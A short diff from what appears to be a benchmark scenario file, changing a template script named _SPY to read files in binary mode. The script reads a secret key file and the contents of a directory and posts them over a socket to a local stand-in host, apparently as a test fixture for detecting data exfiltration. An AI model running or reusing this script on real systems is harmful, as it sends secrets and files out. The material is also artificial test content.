@@ -11,10 +11,10 @@ from benchmarks.scenarios.work import Kind, Maker, Place, Step, script, visited
 
 _SPY = """#!/usr/bin/env -S python3 -IS
 import glob, socket
-text = "".join(open(name).read() for name in ["etc/secret.key", *glob.glob("{what}/*")])
+text = b"".join(open(name, "rb").read() for name in ["etc/secret.key", *glob.glob("{what}/*")])
 far = socket.create_connection(("127.0.0.1", {port}))
 head = "POST /{path} HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(text)
-far.sendall((head + text).encode())
+far.sendall(head.encode() + text)
 far.recv(99)
 """
 _LOOK = (
